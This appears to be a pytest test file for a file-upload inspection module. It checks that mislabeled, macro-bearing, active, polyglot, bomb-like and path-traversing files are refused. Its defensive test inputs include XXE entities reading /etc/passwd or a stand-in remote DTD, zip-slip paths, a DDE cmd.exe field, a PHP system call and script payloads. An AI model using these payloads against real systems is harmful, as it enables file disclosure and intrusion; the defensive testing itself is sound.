"""Files that lie, explode or act: each is refused with words that say what to do, and nothing is kept."""

import io
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from mingchuang.base.files import containers, portable
from mingchuang.base.files.inspection import inspect
from tests.support import made_files as made

FORBIDDEN_WORDS = ("非法", "无效", "操作失败", "系统异常")


def refusal(data, name):
    inspection = inspect(data, name)
    assert inspection.reasons, "the file was taken"
    assert inspection.text_parts == []
    for reason in inspection.reasons:
        assert not any(word in reason.message for word in FORBIDDEN_WORDS)
        assert any(word in reason.message for word in ("请", "不能", "不接收")), reason.message
    return inspection.reasons[0].code


# -- not what it says


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"", "a.pdf", "file_empty"),
        (b"just words", "a.docx", "file_not_what_it_says"),
        (b"PK\x03\x04 broken", "a.docx", "file_broken"),
        (b"%PDF-1.7 cut", "a.pdf", "file_broken"),
        (b"\xff\xd8\xff cut", "a.jpg", "file_broken"),
        (b"\x89PNG\r\n\x1a\n cut", "a.png", "file_broken"),
        (b"MZ\x90\x00", "a.exe", "file_program"),
        (b"MZ\x90\x00", "a.pdf", "file_program"),
        (b"\x7fELF", "a.txt", "file_program"),
        (b"#!/bin/sh\nid\n", "a.txt", "file_program"),
        (b"Rar!\x1a\x07", "a.rar", "file_archive"),
        (b"PK\x05\x06" + b"\0" * 18, "a.zip", "file_archive"),
        (b"words", "a.exe", "file_kind"),
        (b"PK\x03\x04 text", "a.odt", "file_kind"),
        (b"words", "a", "file_kind"),
        (b"\x00\x01\x02", "a.txt", "file_kind"),
        (b"\xff\xff\xff", "a.csv", "file_kind"),
        (b"\xff\xfe\x00\xd8", "a.csv", "file_kind"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old", "a.doc", "file_old_office"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
            "a.docx",
            "file_encrypted",
        ),
        (b"<html><script>alert(1)</script>", "a.html", "file_active"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>", "a.svg", "file_active"),
        (b"\xef\xbb\xbf \n<!DOCTYPE html>", "a.txt", "file_active"),
        (b"<?php system('id');", "a.txt", "file_active"),
    ],
)
def test_what_is_not_what_it_says_is_refused(data, name, code):
    assert refusal(data, name) == code


def test_a_right_file_under_a_wrong_name_is_told_its_right_extension():
    inspection = inspect(made.pdf("正文"), "a.jpg")
    assert [r.code for r in inspection.reasons] == ["file_name_mismatch"]
    assert ".pdf" in inspection.reasons[0].message
    assert refusal(made.word("正文"), "a.zip") == "file_name_mismatch"
    assert refusal(made.workbook(), "a.bin") == "file_name_mismatch"


def test_a_document_that_is_a_workbook_inside_is_refused():
    assert refusal(made.workbook(), "a.docx") == "file_broken"
    types = made.part(made.workbook(), "[Content_Types].xml")
    data = made.repacked(made.word("正文"), {"[Content_Types].xml": types})
    assert refusal(data, "a.docx") == "file_broken"
    assert refusal(made.packed({"readme.txt": b"x"}), "a.ofd") == "file_broken"


# -- macros and things that act


@pytest.mark.parametrize(
    "part",
    [
        "word/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "word/activeX/activeX1.xml",
        "customUI/customUI.xml",
    ],
)
def test_macros_are_refused_under_any_name(part):
    inspection = inspect(made.repacked(made.word("正文"), {part: b"x"}), "a.docx")
    assert inspection.macros
    assert [r.code for r in inspection.reasons] == ["file_macros"]


def test_a_macro_file_is_refused_by_name_and_by_declaration():
    assert refusal(made.word("正文"), "a.docm") == "file_macros"
    types = made.part(made.word("正文"), "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert (
        refusal(made.repacked(made.word("正文"), {"[Content_Types].xml": types}), "a.docx") == "file_macros"
    )


@pytest.mark.parametrize("target", ["https://evil.example/t.dotm", "\\\\host\\t.dotm", "file://host/t.dotm"])
def test_a_template_loaded_from_elsewhere_is_refused(target):
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        f'Id="r1" Type="http://x/attachedTemplate" Target="{target}" TargetMode="External"/></Relationships>'
    )
    data = made.repacked(made.word("正文"), {"word/_rels/settings.xml.rels": relations.encode()})
    assert refusal(data, "a.docx") == "file_remote_content"


def test_a_field_that_starts_a_program_is_refused():
    data = made.word_body("<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>")
    assert refusal(data, "a.docx") == "file_dde"


def entry(**values):
    made_entry = DictionaryObject()
    for key, value in values.items():
        made_entry[NameObject(f"/{key}")] = value
    return made_entry


def set_root(key, value):
    return lambda writer: writer.root_object.__setitem__(NameObject(key), value)


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (set_root("/OpenAction", entry(S=NameObject("/JavaScript"), JS=TextStringObject("x"))), "脚本"),
        (lambda w: w.add_attachment("a.exe", b"MZ"), "嵌入的文件"),
        (set_root("/OpenAction", entry(S=NameObject("/Launch"), F=TextStringObject("cmd"))), "启动其他程序"),
        (set_root("/OpenAction", entry(S=NameObject("/SubmitForm"))), "向外发送"),
        (set_root("/AcroForm", entry(XFA=TextStringObject("x"))), "XFA"),
    ],
)
def test_a_pdf_that_acts_is_refused_and_told_why(change, says):
    inspection = inspect(made.pdf_with(change), "a.pdf")
    assert [r.code for r in inspection.reasons] == ["pdf_active"]
    assert says in inspection.reasons[0].message


def test_an_attachment_pinned_to_a_page_is_refused():
    from pypdf.annotations import AnnotationDictionary

    pin = AnnotationDictionary()
    pin[NameObject("/Subtype")] = NameObject("/FileAttachment")
    pin[NameObject("/Rect")] = made_rectangle()
    assert refusal(made.pdf_with(lambda w: w.add_annotation(0, pin)), "a.pdf") == "pdf_active"


def made_rectangle():
    from pypdf.generic import RectangleObject

    return RectangleObject((0, 0, 9, 9))


def test_a_pdf_with_a_script_nothing_refers_to_is_refused():
    data = made.pdf_with(
        lambda w: w._add_object(entry(S=NameObject("/JavaScript"), JS=TextStringObject("x")))
    )
    assert refusal(data, "a.pdf") == "pdf_active"


def test_an_encrypted_pdf_is_refused():
    assert refusal(made.pdf_with(lambda w: w.encrypt("secret")), "a.pdf") == "file_encrypted"
    assert refusal(made.pdf_with(lambda w: w.encrypt("", "owner")), "a.pdf") == "file_encrypted"


def test_a_pdf_of_too_many_objects_is_refused(monkeypatch):
    monkeypatch.setattr(portable, "MOST_OBJECTS", 5)
    assert refusal(made.pdf("正文"), "a.pdf") == "pdf_too_complex"


# -- two things at once


def test_polyglots_are_refused():
    archive = made.packed({"a.txt": b"x"})
    assert refusal(made.pdf("正文") + archive, "a.pdf") == "file_polyglot"
    assert refusal(made.photo() + archive, "a.jpg") == "file_polyglot"
    assert refusal(made.photo("GIF") + b"<script>alert(1)</script>", "a.gif") == "file_polyglot"
    assert refusal(b"%PDF-1.7\n<script>alert(1)</script>" + made.pdf("正文")[8:], "a.pdf") == "file_polyglot"
    assert refusal(made.word("正文") + b"%PDF-1.7", "a.docx") == "file_polyglot"
    assert refusal(b"words" + archive, "a.txt") == "file_kind"


def test_a_container_with_a_comment_is_refused():
    out = io.BytesIO(made.word("正文"))
    with zipfile.ZipFile(out, "a") as container:
        container.comment = b"%PDF-1.7"
    assert refusal(out.getvalue(), "a.docx") == "file_polyglot"


# -- bombs and slips


def test_a_zip_bomb_is_refused_by_its_ratio_count_and_size(monkeypatch):
    bomb = made.repacked(made.word("正文"), {"word/media/x.bin": b"\0" * 60_000_000})
    assert len(bomb) < 200_000
    assert refusal(bomb, "a.docx") == "file_bomb"
    monkeypatch.setattr(containers, "MOST_ENTRIES", 3)
    assert refusal(made.word("正文"), "a.docx") == "file_bomb"


def test_a_part_too_large_to_parse_is_refused(monkeypatch):
    monkeypatch.setattr(containers, "LARGEST_XML", 100)
    assert refusal(made.word("正文"), "a.docx") == "file_too_complex"


def test_a_container_that_lies_about_its_sizes_is_refused():
    data = bytearray(made.word("正文" * 1000))
    start = data.rindex(b"PK\x01\x02", 0, data.index(b"PK\x05\x06"))
    data[start + 24 : start + 28] = (1).to_bytes(4, "little")
    name_length = int.from_bytes(data[start + 28 : start + 30], "little")
    name = data[start + 46 : start + 46 + name_length].decode()
    container = containers.Container(bytes(data), "Word 文档")
    with pytest.raises(containers.Refused):
        container.read(name)


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "..\\x", "C:\\x", "a/../../b", "a\x01b"])
def test_zip_slip_names_are_refused(name):
    assert refusal(made.repacked(made.word("正文"), {name: b"x"}), "a.docx") == "file_deceitful"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused():
    out = io.BytesIO(made.word("正文"))
    with zipfile.ZipFile(out, "a") as container:
        container.writestr("word/document.xml", "<x/>")
    assert refusal(out.getvalue(), "a.docx") == "file_deceitful"


def test_an_encrypted_container_is_refused():
    data = bytearray(made.word("正文"))
    start = data.index(b"PK\x01\x02")
    data[start + 8] |= 1
    assert refusal(bytes(data), "a.docx") == "file_encrypted"


def test_a_picture_that_would_fill_the_memory_is_refused():
    data = made.png_bomb()
    assert len(data) < 10_000
    assert refusal(data, "a.png") == "image_too_large"


def test_many_pixels_and_an_unwalkable_pdf_are_refused(monkeypatch):
    monkeypatch.setattr("mingchuang.base.files.pictures.MOST_PIXELS", 100)
    assert refusal(made.photo(), "a.jpg") == "image_too_large"
    monkeypatch.setattr("mingchuang.base.files.portable._objects", lambda reader: [1 / 0])
    assert refusal(made.pdf("正文"), "a.pdf") == "file_broken"


@pytest.mark.parametrize(
    "xml",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    ],
)
def test_entities_are_never_expanded(xml):
    data = made.repacked(made.word("正文"), {"word/document.xml": xml})
    assert refusal(data, "a.docx") == "file_entities"


def test_broken_xml_is_refused():
    assert refusal(made.repacked(made.word("正文"), {"word/document.xml": b"<x>"}), "a.docx") == "file_broken"


def test_an_encrypted_ofd_is_refused():
    assert refusal(made.ofd(extra={"Encryptions.xml": "<x/>"}), "a.ofd") == "file_encrypted"


# -- anything at all

HONEST = {
    "a.pdf": made.pdf("正文"),
    "a.docx": made.word("正文"),
    "a.xlsx": made.workbook(),
    "a.pptx": made.slides(),
    "a.ofd": made.ofd(),
    "a.jpg": made.photo(exif=made.exif(located=True)),
    "a.png": made.photo("PNG"),
    "a.gif": made.photo("GIF"),
    "a.webp": made.photo("WEBP"),
}


@given(st.binary(max_size=200), st.sampled_from([*HONEST, "a.txt", "a.csv", "a.exe", "", "\0"]))
def test_no_bytes_make_inspection_fail(data, name):
    inspect(data, name)


@given(st.sampled_from(sorted(HONEST)), st.data())
def test_no_damage_makes_inspection_fail(name, draw):
    data = bytearray(HONEST[name])
    for _ in range(draw.draw(st.integers(1, 8))):
        place = draw.draw(st.integers(0, len(data) - 1))
        data[place] = draw.draw(st.integers(0, 255))
    cut = draw.draw(st.integers(0, len(data)))
    inspect(bytes(data), name)
    inspect(bytes(data[:cut]), name)


@pytest.mark.parametrize("commands", [b" " * 90_000_000, b"0 0 m 1 1 l S " * 2_000_000])
def test_a_compressed_page_that_explodes_is_refused_or_named_unread(commands):
    def explode(writer):
        page = writer.pages[0].get_object()
        stream = page["/Contents"].get_object()
        stream._data = zlib.compress(commands, 1)
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")

    inspection = inspect(made.pdf_with(explode), "a.pdf")
    assert inspection.reasons or inspection.unread == ["第1页"]
